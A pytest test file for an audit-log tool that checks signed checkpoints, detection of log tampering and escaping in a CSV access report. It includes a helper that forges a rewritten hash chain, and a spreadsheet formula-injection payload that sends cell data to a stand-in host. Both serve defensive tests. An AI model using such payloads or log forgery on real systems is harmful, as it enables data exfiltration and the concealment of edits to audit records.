"""``interlink audit``: keys, checkpoints, verification after tampering, the access report."""

from __future__ import annotations

import csv
import json
import stat
from pathlib import Path

import pytest
from sqlalchemy import text

from interlink.audit import AuditAction, NewEvent, seal
from interlink.cli import context
from interlink.store import Database
from tests.cli.test_cli import run


def some_events(db: Database, count: int = 5) -> None:
    with db.uow() as uow:
        for i in range(1, count + 1):
            uow.audit.append(
                NewEvent(
                    AuditAction.READ,
                    username=f"officer.{i}",
                    agency="DE-BKA",
                    object_type="subject",
                    object_ref=f"kz:{i}",
                    object_owner="KZ-KNB",
                    purpose="Überprüfung",
                )
            )


def keys(db: Database, tmp_path: Path) -> tuple[Path, Path]:
    made = run(db, "audit", "keygen", "--out", str(tmp_path / "keys"))
    assert made.exit_code == 0, made.output
    return tmp_path / "keys" / "audit-signing.key", tmp_path / "keys" / "audit-signing.pub"


def rewrite_from(db: Database, seq: int, purpose: str) -> None:
    """What a database administrator would do to hide an edit: recompute every later hash."""
    with db.uow() as uow:
        events = list(uow.audit.events())
    prev = events[seq - 2].hash if seq > 1 else "0" * 64
    with db.engine.begin() as conn:
        for event in events[seq - 1 :]:
            new = NewEvent(
                AuditAction(event.action),
                event.username,
                event.agency,
                event.object_type,
                event.object_ref,
                event.object_owner,
                purpose if event.seq == seq else event.purpose,
                event.detail,
            )
            forged = seal(new, seq=event.seq, prev_hash=prev, at=event.at)
            conn.execute(
                text(
                    "UPDATE audit_events SET purpose = :purpose, prev_hash = :prev, hash = :hash "
                    "WHERE seq = :seq"
                ),
                {"purpose": forged.purpose, "prev": prev, "hash": forged.hash, "seq": event.seq},
            )
            prev = forged.hash


def test_keygen_checkpoint_verify_then_tampering_exits_1_naming_the_seq(
    db: Database, tmp_path: Path
) -> None:
    some_events(db)
    private, public = keys(db, tmp_path)
    assert stat.S_IMODE(private.stat().st_mode) == 0o600
    again = run(db, "audit", "keygen", "--out", str(tmp_path / "keys"))
    assert again.exit_code == 1 and "exists already" in again.stderr
    held = tmp_path / "checkpoint.json"
    made = run(db, "audit", "checkpoint", "--key", str(private), "--output", str(held))
    assert made.exit_code == 0, made.output
    assert "signed checkpoint at seq 5" in made.stdout
    assert json.loads(held.read_text())["seq"] == 5
    ok = run(db, "audit", "verify", "--checkpoint", str(held), "--public-key", str(public))
    assert ok.exit_code == 0, ok.output
    # Six events: the checkpoint is itself an event. Two checkpoints: the stored one and the file.
    assert ok.stdout.strip() == (
        f"audit log intact: 6 events, head seq 6 (sha256 {_head(db)[:16]}…), "
        "2 checkpoint(s) matched, 2 signature(s) verified"
    )
    with db.engine.begin() as conn:
        conn.execute(text("UPDATE audit_events SET purpose = 'routine' WHERE seq = 3"))
    broken = run(db, "audit", "verify")
    assert broken.exit_code == 1
    assert broken.stderr.startswith("audit log broken at seq 3: edited:"), broken.stderr
    refused = run(db, "audit", "checkpoint", "--key", str(private))
    assert (
        refused.exit_code == 1 and "refusing to sign: audit log broken at seq 3" in refused.stderr
    )


def _head(db: Database) -> str:
    with db.uow() as uow:
        return uow.audit.head()[1]


def test_a_rewritten_log_is_caught_only_by_the_partners_checkpoint(
    db: Database, tmp_path: Path
) -> None:
    some_events(db)
    private, public = keys(db, tmp_path)
    held = tmp_path / "checkpoint.json"
    assert (
        run(db, "audit", "checkpoint", "--key", str(private), "--output", str(held)).exit_code == 0
    )
    rewrite_from(db, 2, "routine check")
    with db.engine.begin() as conn:
        conn.execute(text("DELETE FROM audit_checkpoints"))
    # Without a checkpoint held outside the database, the rewrite cannot be seen.
    assert run(db, "audit", "verify").exit_code == 0
    caught = run(db, "audit", "verify", "--checkpoint", str(held), "--public-key", str(public))
    assert caught.exit_code == 1
    assert caught.stderr.startswith("audit log broken at seq 5: rewritten:"), caught.stderr
    assert "rewritten after seq 0 and up to seq 5" in caught.stderr


def test_a_stored_checkpoint_altered_to_fit_a_rewrite_fails_its_signature(
    db: Database, tmp_path: Path
) -> None:
    some_events(db)
    private, public = keys(db, tmp_path)
    assert run(db, "audit", "checkpoint", "--key", str(private)).exit_code == 0
    rewrite_from(db, 2, "routine check")
    with db.engine.begin() as conn:
        conn.execute(
            text(
                "UPDATE audit_checkpoints SET hash = (SELECT hash FROM audit_events WHERE seq = 5)"
            )
        )
    assert run(db, "audit", "verify").exit_code == 0
    forged = run(db, "audit", "verify", "--public-key", str(public))
    assert forged.exit_code == 1
    assert "the database's checkpoint at seq 5: the signature" in forged.stderr
    assert "does not verify" in forged.stderr


def test_checkpoint_of_an_empty_log_is_refused(db: Database, tmp_path: Path) -> None:
    private, _ = keys(db, tmp_path)
    refused = run(db, "audit", "checkpoint", "--key", str(private))
    assert refused.exit_code == 1 and "the audit log is empty" in refused.stderr
    bad_key = run(db, "audit", "checkpoint", "--key", str(tmp_path / "missing.pem"))
    assert bad_key.exit_code == 1 and "missing.pem" in bad_key.stderr


def test_report_lists_who_accessed_an_agencys_records_and_escapes_formulas_in_csv(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A wide console whatever the test runner's terminal, so that no cell wraps.
    monkeypatch.setattr(context.console, "_width", 200)
    for code, country in (("KZ-KNB", "KZ"), ("DE-BKA", "DE")):
        added = run(
            db, "agency", "add", code, "--name", code, "--kind", "security", "--country", country
        )
        assert added.exit_code == 0, added.output
    with db.uow() as uow:
        uow.audit.append(
            NewEvent(
                AuditAction.EXPORT,
                username="@mallory",
                agency="DE-BKA",
                object_type="subject",
                object_ref="kz:1",
                object_owner="KZ-KNB",
                purpose='=HYPERLINK("http://evil.example/?"&A1,"click")',
            )
        )
        uow.audit.append(
            NewEvent(
                AuditAction.READ,
                username="а.иванов",
                agency="KZ-KNB",
                object_type="subject",
                object_ref="kz:2",
                object_owner="KZ-KNB",
                purpose="-проверка [bold]",
            )
        )
        uow.audit.append(
            NewEvent(AuditAction.READ, username="x", agency="KZ-KNB", object_owner="DE-BKA")
        )
    out = tmp_path / "report.csv"
    written = run(db, "audit", "report", "--agency", "KZ-KNB", "--output", str(out))
    assert written.exit_code == 0, written.output
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [(r["seq"], r["username"], r["agency"], r["action"]) for r in rows] == [
        ("1", "'@mallory", "DE-BKA", "export"),
        ("2", "а.иванов", "KZ-KNB", "read"),
    ]
    assert rows[0]["purpose"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert rows[1]["purpose"] == "'-проверка [bold]"
    shown = run(db, "audit", "report", "--agency", "KZ-KNB", "--since", "2000-01-01")
    assert shown.exit_code == 0, shown.output
    assert "а.иванов" in shown.stdout and "-проверка [bold]" in shown.stdout
    assert "2 accesses to records of KZ-KNB, 1 by other agencies" in shown.stdout
    none_yet = run(db, "audit", "report", "--agency", "KZ-KNB", "--until", "2000-01-01")
    assert "0 accesses to records of KZ-KNB" in none_yet.stdout
    unknown = run(db, "audit", "report", "--agency", "XX-NONE")
    assert unknown.exit_code == 1 and "no agency with code XX-NONE" in unknown.stderr
    with db.uow() as uow:
        actions = [e.action for e in uow.audit.events()]
    assert actions.count("audit_report") == 3
